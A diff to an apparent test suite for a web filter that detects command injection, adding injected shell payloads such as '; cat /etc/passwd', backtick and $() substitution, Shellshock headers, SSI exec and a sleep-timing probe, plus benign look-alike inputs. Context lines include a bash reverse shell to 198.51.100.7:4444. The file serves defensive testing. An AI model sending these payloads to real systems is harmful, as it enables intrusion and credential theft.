@@ -114,6 +114,15 @@ ATTACKS = [
     # Shellshock in headers.
     header("User-Agent", "() { :; }; /bin/bash -c 'id'"),
     header("Referer", "() { _; } >_[$($())] { echo; id; }"),
+    # Redirections and chained commands with a few words before the target.
+    query("x;echo pwned > /var/www/html/x.txt"),
+    query("x; grep root /etc/passwd"),
+    query("cat</etc/passwd"),
+    query("x; env"),
+    query("x & sleep 5 &"),
+    query("`id`"),
+    query("$'\\x63\\x61\\x74' /etc/passwd"),
+    query('<!--#exec cmd="id"-->'),
     # Every kind of field.
     json_body({"hostname": "db1; cat /etc/shadow"}),
     json_body({"items": [{"name": "x`id`"}]}),
@@ -170,6 +179,11 @@ BENIGN = [
     query("~5 minutes", "q"),
     query("{a,b}", "q"),
     query("fields={id,name,email}", "q"),
+    query("dog|cat|bird", "tags"),
+    query("python;ruby;go", "skills"),
+    query("Echo|Dot|Show", "models"),
+    query("Passport; ID", "docs"),
+    query("Puppet & Chef & Salt", "q"),
     # Paths and names.
     form("C:\\Users\\John\\Documents\\report.pdf", "path"),
     form("CORP\\jsmith", "login"),
@@ -195,6 +209,9 @@ STRICT_ONLY = [
 ]
 
 BASIC = [
+    query("127.0.0.1;whoami"),
+    query("x|uname -a"),
+    query("$(id)"),
     query("x;cat${IFS}/etc/passwd"),
     form("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"),
     header("User-Agent", "() { :; }; echo vulnerable"),
@@ -226,8 +243,8 @@ def test_blocked_at_basic(request_: Request) -> None:
 
 
 def test_standard_rules_are_off_at_basic() -> None:
-    assert KEY not in keys(query("127.0.0.1;id"), "Basic")
-    assert KEY in keys(query("127.0.0.1;id"), "Standard")
+    assert KEY not in keys(query("127.0.0.1;ls -la"), "Basic")
+    assert KEY in keys(query("127.0.0.1;ls -la"), "Standard")
 
 
 @pytest.mark.parametrize("request_", ATTACKS[::3] + BENIGN[::3])
